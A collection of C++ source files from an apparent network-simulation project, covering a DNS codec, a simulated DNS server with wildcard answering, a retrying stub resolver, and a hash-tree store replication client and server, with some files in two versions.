#include "net/ipv4.hpp"
#include "util/bytes.hpp"

namespace malnet::dns {

enum class Rcode : std::uint8_t {
  kNoError = 0,
  kFormErr = 1,
  kServFail = 2,
  kNxDomain = 3,
};

struct Question {
  std::string name;          // "cnc.example.com" (no trailing dot)
  std::uint16_t qtype = 1;   // A
  std::uint16_t qclass = 1;  // IN
};

struct Answer {
  std::string name;
  net::Ipv4 address;
  std::uint32_t ttl = 60;
};

struct Message {
  std::uint16_t id = 0;
  bool is_response = false;
  bool recursion_desired = true;
  Rcode rcode = Rcode::kNoError;
  std::vector<Question> questions;
  std::vector<Answer> answers;
};

/// Validates and encodes to wire bytes. Throws std::invalid_argument on
/// names that are empty, too long, or have oversized labels.
[[nodiscard]] util::Bytes encode(const Message& m);

/// Parses wire bytes. Returns nullopt on malformed input. Name compression
/// pointers are not emitted by encode() and are rejected on parse.
[[nodiscard]] std::optional<Message> decode(util::BytesView wire);

/// Builds a standard A query.
[[nodiscard]] Message make_query(std::uint16_t id, const std::string& name);

/// Builds a response to `query` answering with `address` (or NXDOMAIN).
[[nodiscard]] Message make_response(const Message& query,
                                    std::optional<net::Ipv4> address);

}  // namespace malnet::dns
