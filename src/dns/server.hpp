// A simulated authoritative/recursive DNS server host. Serves an explicit
// zone map; optionally answers *every* name with a fixed address (wildcard
// mode — this is what InetSim does to keep malware happy offline).
#pragma once

#include <functional>
#include <optional>
#include <string>
#include <unordered_map>

#include "sim/network.hpp"

namespace malnet::dns {

/// Server-side fate of one decoded query, chosen by the fault hook.
enum class QueryFault {
  kNone,      // answer normally
  kServfail,  // reply SERVFAIL (resolver infrastructure hiccup)
  kDrop,      // swallow the query silently (reply never sent)
};

/// Installed by the fault-injection layer; consulted once per well-formed
/// query. Must be deterministic.
using QueryFaultHook = std::function<QueryFault()>;

class DnsServer : public sim::Host {
 public:
  DnsServer(sim::Network& net, net::Ipv4 addr, std::string name = "dns");

  /// Adds or replaces an A record.
  void add_record(const std::string& name, net::Ipv4 address);
  void remove_record(const std::string& name);

  /// In wildcard mode every unknown name resolves to `address`.
  void set_wildcard(std::optional<net::Ipv4> address) { wildcard_ = address; }

  void set_query_fault_hook(QueryFaultHook h) { fault_hook_ = std::move(h); }

  [[nodiscard]] std::uint64_t queries_served() const { return queries_; }

 private:
  void handle_query(const net::Packet& p);

  std::unordered_map<std::string, net::Ipv4> zone_;
  std::optional<net::Ipv4> wildcard_;
  QueryFaultHook fault_hook_;
  std::uint64_t queries_ = 0;
};

}  // namespace malnet::dns
