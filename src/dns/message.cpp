#include "dns/message.hpp"

#include <stdexcept>

#include "util/str.hpp"

namespace malnet::dns {

namespace {

void encode_name(util::ByteWriter& w, const std::string& name) {
  if (name.empty() || name.size() > 253) {
    throw std::invalid_argument("dns: bad name length");
  }
  for (const auto& label : util::split(name, '.')) {
    if (label.empty() || label.size() > 63) {
      throw std::invalid_argument("dns: bad label in " + name);
    }
    w.u8(static_cast<std::uint8_t>(label.size()));
    w.raw(label);
  }
  w.u8(0);
}

std::optional<std::string> decode_name(util::ByteReader& r) {
  std::string name;
  while (true) {
    const std::uint8_t len = r.u8();
    if (len == 0) break;
    if (len >= 0xC0) return std::nullopt;  // compression pointer: unsupported
    if (len > 63) return std::nullopt;
    if (!name.empty()) name += '.';
    name += r.str(len);
  }
  return name;
}

}  // namespace

util::Bytes encode(const Message& m) {
  util::ByteWriter w;
  w.u16(m.id);
  std::uint16_t flags = 0;
  if (m.is_response) flags |= 0x8000;
  if (m.recursion_desired) flags |= 0x0100;
  if (m.is_response) flags |= 0x0080;  // recursion available
  flags |= static_cast<std::uint16_t>(m.rcode) & 0xF;
  w.u16(flags);
  w.u16(static_cast<std::uint16_t>(m.questions.size()));
  w.u16(static_cast<std::uint16_t>(m.answers.size()));
  w.u16(0);  // NS count
  w.u16(0);  // AR count
  for (const auto& q : m.questions) {
    encode_name(w, q.name);
    w.u16(q.qtype);
    w.u16(q.qclass);
  }
  for (const auto& a : m.answers) {
    encode_name(w, a.name);
    w.u16(1);  // TYPE A
    w.u16(1);  // CLASS IN
    w.u32(a.ttl);
    w.u16(4);  // RDLENGTH
    w.u32(a.address.value);
  }
  return w.take();
}

std::optional<Message> decode(util::BytesView wire) {
  try {
    util::ByteReader r(wire);
    Message m;
    m.id = r.u16();
    const std::uint16_t flags = r.u16();
    m.is_response = flags & 0x8000;
    m.recursion_desired = flags & 0x0100;
    m.rcode = static_cast<Rcode>(flags & 0xF);
    const std::uint16_t qd = r.u16();
    const std::uint16_t an = r.u16();
    r.skip(4);  // NS + AR counts
    for (std::uint16_t i = 0; i < qd; ++i) {
      auto name = decode_name(r);
      if (!name) return std::nullopt;
      Question q;
      q.name = std::move(*name);
      q.qtype = r.u16();
      q.qclass = r.u16();
      m.questions.push_back(std::move(q));
    }
    for (std::uint16_t i = 0; i < an; ++i) {
      auto name = decode_name(r);
      if (!name) return std::nullopt;
      Answer a;
      a.name = std::move(*name);
      const std::uint16_t type = r.u16();
      r.skip(2);  // class
      a.ttl = r.u32();
      const std::uint16_t rdlen = r.u16();
      if (type == 1 && rdlen == 4) {
        a.address = net::Ipv4{r.u32()};
        m.answers.push_back(std::move(a));
      } else {
        r.skip(rdlen);  // non-A record: skip
      }
    }
    return m;
  } catch (const util::TruncatedInput&) {
    return std::nullopt;
  }
}

Message make_query(std::uint16_t id, const std::string& name) {
  Message m;
  m.id = id;
  m.questions.push_back(Question{name, 1, 1});
  return m;
}

Message make_response(const Message& query, std::optional<net::Ipv4> address) {
  Message m;
  m.id = query.id;
  m.is_response = true;
  m.questions = query.questions;
  if (address && !query.questions.empty()) {
    m.answers.push_back(Answer{query.questions.front().name, *address, 60});
  } else if (!address) {
    m.rcode = Rcode::kNxDomain;
  }
  return m;
}

}  // namespace malnet::dns
