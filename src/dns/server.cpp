#include "dns/server.hpp"

#include "dns/message.hpp"
#include "util/str.hpp"

namespace malnet::dns {

DnsServer::DnsServer(sim::Network& net, net::Ipv4 addr, std::string name)
    : sim::Host(net, addr, std::move(name)) {
  udp_bind(53, [this](const net::Packet& p) { handle_query(p); });
}

void DnsServer::add_record(const std::string& name, net::Ipv4 address) {
  zone_[util::to_lower(name)] = address;
}

void DnsServer::remove_record(const std::string& name) {
  zone_.erase(util::to_lower(name));
}

void DnsServer::handle_query(const net::Packet& p) {
  const auto query = decode(p.payload);
  if (!query || query->is_response || query->questions.empty()) return;
  ++queries_;
  if (fault_hook_) {
    switch (fault_hook_()) {
      case QueryFault::kDrop:
        return;  // the client sees a timeout
      case QueryFault::kServfail: {
        Message fail = make_response(*query, std::nullopt);
        fail.rcode = Rcode::kServFail;
        udp_send({p.src, p.src_port}, encode(fail), /*src_port=*/53);
        return;
      }
      case QueryFault::kNone:
        break;
    }
  }
  std::optional<net::Ipv4> answer;
  const auto it = zone_.find(util::to_lower(query->questions.front().name));
  if (it != zone_.end()) {
    answer = it->second;
  } else if (wildcard_) {
    answer = *wildcard_;
  }
  const util::Bytes reply = encode(make_response(*query, answer));
  udp_send({p.src, p.src_port}, reply, /*src_port=*/53);
}

}  // namespace malnet::dns
