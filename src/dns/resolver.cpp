#include "dns/resolver.hpp"

#include <memory>

#include "dns/message.hpp"

namespace malnet::dns {

namespace {

// Shared completion state: whichever fires first (reply or timeout) wins.
struct Txn {
  bool done = false;
  int retries_left = 0;
  sim::Duration timeout{};
  double backoff = 2.0;
  std::function<void()> on_retry;
  ResolveCallback cb;
};

/// Arms (or re-arms) the timeout for the current attempt. The event lives
/// in the scheduler, which outlives the host, so it must carry its own
/// lifetime guard: a host destroyed mid-flight (e.g. a sandbox guest torn
/// down before its query resolves) silently orphans the transaction. When
/// the reply wins the race the timer is deliberately left to fire as a
/// guarded no-op rather than cancelled — cancelled events are never counted
/// as executed, so cancellation would make the scheduler's event totals
/// depend on which side of the race won.
void arm_timeout(sim::Host& host, net::Endpoint server, const std::string& name,
                 std::uint16_t id, net::Port src_port,
                 const std::shared_ptr<Txn>& txn) {
  host.scheduler().after(
      txn->timeout,
      [hp = &host, w = host.lifetime_guard(), server, name, id, src_port, txn]() {
        if (w.expired() || txn->done) return;
        if (txn->retries_left > 0) {
          --txn->retries_left;
          txn->timeout = sim::Duration{static_cast<std::int64_t>(
              static_cast<double>(txn->timeout.us) * txn->backoff)};
          if (txn->on_retry) txn->on_retry();
          // Retransmit with the same id and port: a straggling reply to an
          // earlier attempt still completes the transaction.
          hp->udp_send(server, encode(make_query(id, name)), src_port);
          arm_timeout(*hp, server, name, id, src_port, txn);
          return;
        }
        txn->done = true;
        hp->udp_unbind(src_port);
        txn->cb(std::nullopt);
      });
}

}  // namespace

void resolve(sim::Host& host, net::Endpoint server, const std::string& name,
             ResolveCallback cb, ResolveOptions opts) {
  if (!cb) throw std::invalid_argument("resolve: null callback");
  const auto id = static_cast<std::uint16_t>(host.network().rng()());
  const net::Port src_port = host.alloc_ephemeral_port();

  auto txn = std::make_shared<Txn>();
  txn->cb = std::move(cb);
  txn->retries_left = std::max(0, opts.max_retries);
  txn->timeout = opts.timeout;
  txn->backoff = opts.backoff;
  txn->on_retry = std::move(opts.on_retry);

  // The reply handler is owned by the host, so capturing it by reference is
  // safe here (unlike the scheduler-owned timeout above).
  host.udp_bind(src_port, [&host, src_port, id, txn](const net::Packet& p) {
    if (txn->done) return;
    const auto reply = decode(p.payload);
    if (!reply || !reply->is_response || reply->id != id) return;
    txn->done = true;
    host.udp_unbind(src_port);
    std::optional<net::Ipv4> result;
    if (reply->rcode == Rcode::kNoError && !reply->answers.empty()) {
      result = reply->answers.front().address;
    }
    txn->cb(result);
  });

  arm_timeout(host, server, name, id, src_port, txn);
  host.udp_send(server, encode(make_query(id, name)), src_port);
}

void resolve(sim::Host& host, net::Endpoint server, const std::string& name,
             ResolveCallback cb, sim::Duration timeout) {
  ResolveOptions opts;
  opts.timeout = timeout;
  resolve(host, server, name, std::move(cb), std::move(opts));
}

}  // namespace malnet::dns
