#include "dns/resolver.hpp"

#include <memory>

#include "dns/message.hpp"

namespace malnet::dns {

void resolve(sim::Host& host, net::Endpoint server, const std::string& name,
             ResolveCallback cb, sim::Duration timeout) {
  if (!cb) throw std::invalid_argument("resolve: null callback");
  const auto id = static_cast<std::uint16_t>(host.network().rng()());
  const net::Port src_port = host.alloc_ephemeral_port();

  // Shared completion state: whichever fires first (reply or timeout) wins.
  struct Txn {
    bool done = false;
    ResolveCallback cb;
  };
  auto txn = std::make_shared<Txn>();
  txn->cb = std::move(cb);

  host.udp_bind(src_port, [&host, src_port, id, name, txn](const net::Packet& p) {
    if (txn->done) return;
    const auto reply = decode(p.payload);
    if (!reply || !reply->is_response || reply->id != id) return;
    txn->done = true;
    host.udp_unbind(src_port);
    std::optional<net::Ipv4> result;
    if (reply->rcode == Rcode::kNoError && !reply->answers.empty()) {
      result = reply->answers.front().address;
    }
    txn->cb(result);
  });

  host.scheduler().after(timeout, [&host, src_port, txn]() {
    if (txn->done) return;
    txn->done = true;
    host.udp_unbind(src_port);
    txn->cb(std::nullopt);
  });

  host.udp_send(server, encode(make_query(id, name)), src_port);
}

}  // namespace malnet::dns
