// Asynchronous stub resolver for simulated hosts.
#pragma once

#include <functional>
#include <optional>
#include <string>

#include "sim/network.hpp"

namespace malnet::dns {

using ResolveCallback = std::function<void(std::optional<net::Ipv4>)>;

/// Sends one A query from `host` to `server` and invokes `cb` with the
/// answer, NXDOMAIN (nullopt), or nullopt after `timeout` with no reply.
/// The transaction id is drawn from the network RNG; a mismatched id or a
/// malformed response counts as no reply.
void resolve(sim::Host& host, net::Endpoint server, const std::string& name,
             ResolveCallback cb,
             sim::Duration timeout = sim::Duration::seconds(5));

}  // namespace malnet::dns
