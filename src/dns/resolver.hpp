// Asynchronous stub resolver for simulated hosts.
#pragma once

#include <functional>
#include <optional>
#include <string>

#include "sim/network.hpp"

namespace malnet::dns {

using ResolveCallback = std::function<void(std::optional<net::Ipv4>)>;

/// Retry/timeout policy for one resolution. The defaults reproduce the
/// classic single-shot behaviour; bounded retry exists for chaos studies
/// where queries and replies are injected-dropped in flight.
struct ResolveOptions {
  sim::Duration timeout = sim::Duration::seconds(5);
  /// Retransmissions after the first query times out (0 = single shot).
  int max_retries = 0;
  /// Exponential backoff: each retransmission waits `backoff` times longer
  /// than the previous attempt.
  double backoff = 2.0;
  /// Invoked once per retransmission (metrics hook; may be null).
  std::function<void()> on_retry;
};

/// Sends one A query from `host` to `server` and invokes `cb` exactly once
/// with the answer, NXDOMAIN (nullopt), or nullopt after every attempt
/// timed out. The transaction id is drawn from the network RNG; a
/// mismatched id or a malformed response counts as no reply. The timeout
/// timer is lifetime-guarded and defused when the reply wins, so the
/// reply/timeout race can neither double-fire the callback nor touch a
/// destroyed host.
void resolve(sim::Host& host, net::Endpoint server, const std::string& name,
             ResolveCallback cb, ResolveOptions opts);

/// Single-shot convenience overload (the pre-chaos interface).
void resolve(sim::Host& host, net::Endpoint server, const std::string& name,
             ResolveCallback cb,
             sim::Duration timeout = sim::Duration::seconds(5));

}  // namespace malnet::dns
