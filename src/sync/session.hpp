// malnet::sync server side — answers MSY1 requests against a local store.
//
// Plugged into serve::Server through ServeConfig::aux_handler: the query
// server keeps owning the transport (threads, backpressure, timeouts) and
// hands over only the frame bodies its own codec rejects. handle() is
// called concurrently from the server's I/O threads; it is thread-safe
// because every store operation locks internally and counters are atomic.
//
// Safety contract (the fuzz target): no input ever crashes or wedges the
// handler, and nothing reaches the store's manifest unless it validates as
// a complete segment — Store::import_segment re-derives the content hash
// from the exact bytes received, so a corrupted PUT is rejected, never
// journaled. An undecodable body returns nullopt and the server drops the
// connection; a decodable-but-wrong request gets a status-1 response and
// the connection lives on.
#pragma once

#include <optional>

#include "obs/metrics.hpp"
#include "store/store.hpp"
#include "sync/wire.hpp"

namespace malnet::sync {

/// Metrics (all `sync.`-prefixed, on the registry passed in):
/// requests, segments_served, segments_imported, puts_rejected.
class SessionHandler {
 public:
  SessionHandler(store::Store& store, obs::Registry& registry);

  /// Answers one MSY1 frame body with a complete MSP1 response frame
  /// (length prefix included). Nullopt = not a decodable sync request;
  /// the caller should treat the connection as broken.
  [[nodiscard]] std::optional<util::Bytes> handle(util::BytesView body);

 private:
  store::Store& store_;
  obs::Counter* requests_;
  obs::Counter* segments_served_;
  obs::Counter* segments_imported_;
  obs::Counter* puts_rejected_;
};

}  // namespace malnet::sync
