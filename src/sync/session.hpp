// malnet::sync server side — answers MSY1 requests against a local store.
//
// Plugged into serve::Server through ServeConfig::aux_handler: the query
// server keeps owning the transport (threads, backpressure, timeouts) and
// hands over only the frame bodies its own codec rejects. handle() is
// called concurrently from the server's I/O threads; it is thread-safe
// because every store operation locks internally and counters are atomic.
//
// Safety contract (the fuzz target): no input ever crashes or wedges the
// handler, and nothing reaches the store's manifest unless it validates as
// a complete segment — Store::import_segment re-derives the content hash
// from the exact bytes received, so a corrupted PUT is rejected, never
// journaled. An undecodable body returns nullopt and the server drops the
// connection; a decodable-but-wrong request gets a status-1 response and
// the connection lives on.
#pragma once

#include <optional>
#include <string_view>

#include "obs/metrics.hpp"
#include "obs/slowlog.hpp"
#include "obs/trace.hpp"
#include "store/store.hpp"
#include "sync/wire.hpp"

namespace malnet::sync {

/// Metrics (all `sync.`-prefixed, on the registry passed in):
/// requests, segments_served, segments_imported, puts_rejected.
class SessionHandler {
 public:
  SessionHandler(store::Store& store, obs::Registry& registry);

  /// Sync ops at or above `threshold_us` land in the handler's slow log
  /// (default: 10ms, capacity 32 — mirrors the serve layer).
  void configure_slow_log(std::size_t capacity, std::int64_t threshold_us);
  [[nodiscard]] const obs::SlowLog& slow_log() const { return slow_; }

  /// Traced requests (MSY2) record wall-clock server spans here when set.
  void set_span_recorder(obs::SpanRecorder* spans) { spans_ = spans; }

  /// Answers one MSY1/MSY2 frame body with a complete MSP1 response frame
  /// (length prefix included). Nullopt = not a decodable sync request;
  /// the caller should treat the connection as broken. `peer` (when known)
  /// is recorded in slow-log entries.
  [[nodiscard]] std::optional<util::Bytes> handle(util::BytesView body,
                                                 std::string_view peer = {});

 private:
  /// Op-specific handling; handle() wraps this with timing/slow-log/spans.
  [[nodiscard]] std::optional<util::Bytes> dispatch(const SyncRequest& in);

  store::Store& store_;
  obs::Counter* requests_;
  obs::Counter* segments_served_;
  obs::Counter* segments_imported_;
  obs::Counter* puts_rejected_;
  obs::SlowLog slow_;
  obs::SpanRecorder* spans_ = nullptr;
};

}  // namespace malnet::sync
