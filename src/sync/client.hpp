// malnet::sync client — push/pull replication against a sync-enabled server.
//
// Both directions run the same hash-tree refinement (DESIGN.md §14): start
// from the root summaries (HELLO), descend only into subtrees whose set
// hashes differ (TREE), switch to explicit member lists once a subtree is
// small (LIST), then transfer exactly the difference (GET/PUT). Identical
// stores cost one round trip; the wire cost of a sync is proportional to
// the difference, never to the store size — SyncStats::bytes_saved is the
// segment volume refinement avoided shipping.
//
// Convergence safety: every operation is idempotent (PUT/import is a
// grow-only set union; GET is a read), so a failed attempt can simply be
// retried from scratch — there is no session state on the server to
// resume, and a half-finished sync leaves both manifests valid, just not
// yet equal. Every GET response is re-hashed and checked against the hash
// that was requested before it is imported; a mismatch fails the sync
// without touching the manifest.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <unordered_map>
#include <vector>

#include "obs/metrics.hpp"
#include "obs/trace.hpp"
#include "serve/client.hpp"
#include "store/merkle.hpp"
#include "store/store.hpp"
#include "sync/wire.hpp"
#include "util/socket.hpp"

namespace malnet::sync {

/// Outcome of one push() or pull(). Mirrored into `sync.`-prefixed counters
/// (rounds, segments_sent, segments_received, bytes_on_wire, bytes_saved,
/// verify_failures) when the client was built with a registry.
struct SyncStats {
  std::uint64_t rounds = 0;            // request/response round trips
  std::uint64_t segments_sent = 0;     // PUTs accepted by the remote
  std::uint64_t segments_received = 0; // GETs imported locally
  std::uint64_t bytes_on_wire = 0;     // frame bytes written + read
  std::uint64_t bytes_saved = 0;       // segment bytes refinement skipped
  std::uint64_t verify_failures = 0;   // GET bodies that failed re-hashing
};

class SyncClient {
 public:
  explicit SyncClient(store::Store& store, obs::Registry* registry = nullptr)
      : store_(store), registry_(registry) {}

  /// Connects (with retry/backoff per `opts`, same discipline as
  /// serve::Client). False when every attempt failed.
  [[nodiscard]] bool connect(const std::string& host, std::uint16_t port,
                             serve::ClientOptions opts = {});
  [[nodiscard]] bool connected() const { return fd_.valid(); }
  void close();

  /// Transfers every local segment the remote lacks. Nullopt on any I/O,
  /// protocol, or verification failure — the remote manifest is left valid
  /// either way (imports are atomic and validated server-side).
  [[nodiscard]] std::optional<SyncStats> push();

  /// Transfers every remote segment the local store lacks. Nullopt on any
  /// failure — the local manifest is then untouched beyond segments that
  /// already fully imported (each one valid and verified).
  [[nodiscard]] std::optional<SyncStats> pull();

  /// Turns on cross-node tracing: every subsequent request carries
  /// `trace_id` (MSY2 framing) and records a client-side wall-clock span
  /// per round trip into trace_events(). 0 disables.
  void enable_tracing(std::uint64_t trace_id) { trace_id_ = trace_id; }
  [[nodiscard]] std::uint64_t trace_id() const { return trace_id_; }
  /// Client spans collected while tracing (one per rpc), ready for
  /// obs::write_chrome_trace / obs::merge_chrome_traces.
  [[nodiscard]] const std::vector<obs::TraceEvent>& trace_events() const {
    return trace_events_;
  }

 private:
  using SizeMap = std::unordered_map<std::string, std::uint64_t>;

  /// One round trip. Nullopt (and close()) on I/O failure, a malformed
  /// frame, an id/op mismatch, or a status-1 reply: refinement requests
  /// are never invalid, so an error reply means the peers disagree about
  /// the protocol and the attempt must be abandoned, not patched around.
  [[nodiscard]] std::optional<util::Bytes> rpc(SyncOp op,
                                               util::BytesView payload,
                                               SyncStats& stats);
  [[nodiscard]] std::optional<store::TreeNodeSummary> fetch_node(
      const std::string& prefix, SyncStats& stats);
  [[nodiscard]] std::optional<std::vector<std::string>> fetch_list(
      const std::string& prefix, SyncStats& stats);

  [[nodiscard]] bool do_push(SyncStats& stats);
  [[nodiscard]] bool do_pull(SyncStats& stats);
  /// Refinement walk at `prefix`, collecting local members the remote
  /// lacks (push) or remote members the local store lacks (pull). `remote`
  /// is the remote's summary at the same prefix. False aborts the attempt.
  [[nodiscard]] bool push_walk(const store::SegmentSet& local,
                               const std::string& prefix,
                               const store::TreeNodeSummary& remote,
                               std::vector<std::string>& to_send,
                               SyncStats& stats);
  [[nodiscard]] bool pull_walk(const store::SegmentSet& local,
                               const SizeMap& sizes, const std::string& prefix,
                               const store::TreeNodeSummary& remote,
                               std::vector<std::string>& to_fetch,
                               SyncStats& stats);
  /// LIST-based diff once a subtree is small enough to enumerate.
  [[nodiscard]] bool list_diff(const store::SegmentSet& local,
                               const std::string& prefix, bool pulling,
                               const SizeMap& sizes,
                               std::vector<std::string>& out,
                               SyncStats& stats);
  void record(const SyncStats& stats);

  store::Store& store_;
  obs::Registry* registry_ = nullptr;
  util::Fd fd_;
  serve::ClientOptions opts_;
  serve::FrameReader reader_{kMaxSyncFrameBody};
  std::uint64_t next_id_ = 1;
  std::uint64_t trace_id_ = 0;
  std::vector<obs::TraceEvent> trace_events_;
};

}  // namespace malnet::sync
