#include "sync/client.hpp"

#include <algorithm>
#include <chrono>
#include <thread>

#include "store/segment.hpp"
#include "util/log.hpp"

namespace malnet::sync {

namespace {

/// Below this many remote members a subtree is enumerated (LIST) instead of
/// refined further — one round trip beats up to four levels of TREEs.
constexpr std::uint64_t kListThreshold = 16;

constexpr std::string_view kHexDigits = "0123456789abcdef";

const char* sync_op_name(SyncOp op) {
  switch (op) {
    case SyncOp::kHello: return "hello";
    case SyncOp::kTree: return "tree";
    case SyncOp::kList: return "list";
    case SyncOp::kGet: return "get";
    case SyncOp::kPut: return "put";
  }
  return "?";
}

std::uint64_t sum_sizes(const std::vector<std::string>& hashes,
                        const std::unordered_map<std::string, std::uint64_t>& sizes) {
  std::uint64_t total = 0;
  for (const auto& h : hashes) {
    const auto it = sizes.find(h);
    if (it != sizes.end()) total += it->second;
  }
  return total;
}

}  // namespace

bool SyncClient::connect(const std::string& host, std::uint16_t port,
                         serve::ClientOptions opts) {
  close();
  opts_ = opts;
  int backoff = opts.backoff_ms;
  for (int attempt = 0; attempt <= opts.max_retries; ++attempt) {
    if (attempt > 0) {
      std::this_thread::sleep_for(std::chrono::milliseconds(backoff));
      backoff *= 2;
    }
    auto fd = util::tcp_connect(host, port, opts.connect_timeout_ms);
    if (fd.valid()) {
      fd_ = std::move(fd);
      reader_ = serve::FrameReader(kMaxSyncFrameBody);
      return true;
    }
  }
  return false;
}

void SyncClient::close() {
  fd_.reset();
  reader_ = serve::FrameReader(kMaxSyncFrameBody);
}

std::optional<util::Bytes> SyncClient::rpc(SyncOp op, util::BytesView payload,
                                           SyncStats& stats) {
  if (!fd_.valid()) return std::nullopt;
  const std::uint64_t id = next_id_++;
  // Span ids derive from the request id; the server echoes them into its
  // own spans, so client and server sides of one rpc correlate by id.
  const std::uint64_t span_id = trace_id_ == 0 ? 0 : id;
  const std::int64_t wall0 = obs::wall_now_us();
  const auto frame = encode_sync_request(
      {id, op, util::Bytes(payload.begin(), payload.end()), trace_id_,
       span_id});
  if (!util::send_all(fd_.get(), frame, opts_.io_timeout_ms)) {
    close();
    return std::nullopt;
  }
  ++stats.rounds;
  stats.bytes_on_wire += frame.size();
  const auto record_span = [&](std::size_t resp_bytes) {
    if (trace_id_ == 0) return;
    obs::TraceEvent ev;
    ev.name = std::string("sync:") + sync_op_name(op);
    ev.category = "sync";
    ev.phase = 'X';
    ev.clock = 'w';
    ev.wall_us = wall0;
    ev.dur_us = obs::wall_now_us() - wall0;
    ev.trace_id = trace_id_;
    ev.span_id = span_id;
    ev.args_json = "\"bytes\":" + std::to_string(resp_bytes);
    trace_events_.push_back(std::move(ev));
  };
  for (;;) {
    if (auto body = reader_.next()) {
      stats.bytes_on_wire += serve::kFramePrefixSize + body->size();
      auto resp = decode_sync_response(util::BytesView{*body});
      if (!resp || resp->id != id || resp->op != op ||
          resp->status != SyncStatus::kOk) {
        close();
        return std::nullopt;
      }
      record_span(resp->payload.size());
      return std::move(resp->payload);
    }
    if (reader_.error()) {
      close();
      return std::nullopt;
    }
    std::uint8_t buf[64 * 1024];
    const int n =
        util::recv_some(fd_.get(), buf, sizeof(buf), opts_.io_timeout_ms);
    if (n <= 0) {  // timeout, error, or peer close
      close();
      return std::nullopt;
    }
    reader_.feed({buf, static_cast<std::size_t>(n)});
  }
}

std::optional<store::TreeNodeSummary> SyncClient::fetch_node(
    const std::string& prefix, SyncStats& stats) {
  std::optional<util::Bytes> payload;
  if (prefix.empty()) {
    payload = rpc(SyncOp::kHello, {}, stats);
  } else {
    util::ByteWriter w;
    w.lp16(prefix);
    payload = rpc(SyncOp::kTree, util::BytesView{w.bytes()}, stats);
  }
  if (!payload) return std::nullopt;
  auto node = decode_node_summary(util::BytesView{*payload});
  if (!node) close();
  return node;
}

std::optional<std::vector<std::string>> SyncClient::fetch_list(
    const std::string& prefix, SyncStats& stats) {
  util::ByteWriter w;
  w.lp16(prefix);
  const auto payload = rpc(SyncOp::kList, util::BytesView{w.bytes()}, stats);
  if (!payload) return std::nullopt;
  auto list = decode_hash_list(util::BytesView{*payload});
  if (!list) close();
  return list;
}

bool SyncClient::list_diff(const store::SegmentSet& local,
                           const std::string& prefix, bool pulling,
                           const SizeMap& sizes, std::vector<std::string>& out,
                           SyncStats& stats) {
  const auto remote_list = fetch_list(prefix, stats);
  if (!remote_list) return false;
  if (pulling) {
    for (const auto& h : *remote_list) {
      if (local.contains(h)) {
        const auto it = sizes.find(h);
        if (it != sizes.end()) stats.bytes_saved += it->second;
      } else {
        out.push_back(h);
      }
    }
  } else {
    for (auto& h : local.under(prefix)) {
      if (!std::binary_search(remote_list->begin(), remote_list->end(), h)) {
        out.push_back(std::move(h));
      }
    }
  }
  return true;
}

bool SyncClient::push_walk(const store::SegmentSet& local,
                           const std::string& prefix,
                           const store::TreeNodeSummary& remote,
                           std::vector<std::string>& to_send,
                           SyncStats& stats) {
  const auto local_node = local.summarize(prefix);
  if (local_node.count == 0) return true;           // nothing to offer here
  if (local_node.hash == remote.hash) return true;  // sets already equal
  if (remote.count == 0) {
    auto members = local.under(prefix);
    to_send.insert(to_send.end(), std::make_move_iterator(members.begin()),
                   std::make_move_iterator(members.end()));
    return true;
  }
  if (remote.count <= kListThreshold || prefix.size() >= store::kHashHexLen) {
    return list_diff(local, prefix, /*pulling=*/false, {}, to_send, stats);
  }
  for (const auto& lc : local_node.children) {
    const store::TreeChildSummary* rc = nullptr;
    for (const auto& c : remote.children) {
      if (c.digit == lc.digit) {
        rc = &c;
        break;
      }
    }
    const std::string child_prefix = prefix + kHexDigits[lc.digit];
    if (!rc) {
      auto members = local.under(child_prefix);
      to_send.insert(to_send.end(), std::make_move_iterator(members.begin()),
                     std::make_move_iterator(members.end()));
      continue;
    }
    if (rc->hash == lc.hash) continue;
    if (rc->count <= kListThreshold ||
        child_prefix.size() >= store::kHashHexLen) {
      if (!list_diff(local, child_prefix, /*pulling=*/false, {}, to_send,
                     stats)) {
        return false;
      }
      continue;
    }
    const auto child_node = fetch_node(child_prefix, stats);
    if (!child_node) return false;
    if (!push_walk(local, child_prefix, *child_node, to_send, stats)) {
      return false;
    }
  }
  return true;
}

bool SyncClient::pull_walk(const store::SegmentSet& local, const SizeMap& sizes,
                           const std::string& prefix,
                           const store::TreeNodeSummary& remote,
                           std::vector<std::string>& to_fetch,
                           SyncStats& stats) {
  if (remote.count == 0) return true;  // nothing to take from here
  const auto local_node = local.summarize(prefix);
  if (local_node.hash == remote.hash) {
    stats.bytes_saved += sum_sizes(local.under(prefix), sizes);
    return true;
  }
  if (remote.count <= kListThreshold || prefix.size() >= store::kHashHexLen) {
    return list_diff(local, prefix, /*pulling=*/true, sizes, to_fetch, stats);
  }
  for (const auto& rc : remote.children) {
    const store::TreeChildSummary* lc = nullptr;
    for (const auto& c : local_node.children) {
      if (c.digit == rc.digit) {
        lc = &c;
        break;
      }
    }
    const std::string child_prefix = prefix + kHexDigits[rc.digit];
    if (lc && lc->hash == rc.hash) {
      stats.bytes_saved += sum_sizes(local.under(child_prefix), sizes);
      continue;
    }
    if (rc.count <= kListThreshold ||
        child_prefix.size() >= store::kHashHexLen) {
      if (!list_diff(local, child_prefix, /*pulling=*/true, sizes, to_fetch,
                     stats)) {
        return false;
      }
      continue;
    }
    const auto child_node = fetch_node(child_prefix, stats);
    if (!child_node) return false;
    if (!pull_walk(local, sizes, child_prefix, *child_node, to_fetch, stats)) {
      return false;
    }
  }
  return true;
}

bool SyncClient::do_push(SyncStats& stats) {
  SizeMap sizes;
  std::uint64_t local_total = 0;
  for (const auto& m : store_.segments()) {
    sizes.emplace(m.hash, m.bytes);
    local_total += m.bytes;
  }
  const store::SegmentSet local(store_.segment_hashes());
  const auto remote_root = fetch_node("", stats);
  if (!remote_root) return false;
  std::vector<std::string> to_send;
  if (local.summarize("").hash != remote_root->hash) {
    if (!push_walk(local, "", *remote_root, to_send, stats)) return false;
  }
  std::sort(to_send.begin(), to_send.end());
  to_send.erase(std::unique(to_send.begin(), to_send.end()), to_send.end());
  std::uint64_t sent_bytes = 0;
  for (const auto& hash : to_send) {
    std::optional<util::Bytes> bytes;
    try {
      bytes = store_.read_segment_bytes(hash);
    } catch (const std::exception& e) {
      util::log_line(util::LogLevel::kWarn, "sync",
                     std::string("push: local segment unreadable: ") + e.what());
      return false;
    }
    if (!bytes) return false;  // compacted away mid-sync: retry from scratch
    const auto resp = rpc(SyncOp::kPut, util::BytesView{*bytes}, stats);
    if (!resp || resp->size() != 1) {
      close();
      return false;
    }
    ++stats.segments_sent;
    sent_bytes += bytes->size();
  }
  stats.bytes_saved += local_total - std::min(local_total, sent_bytes);
  return true;
}

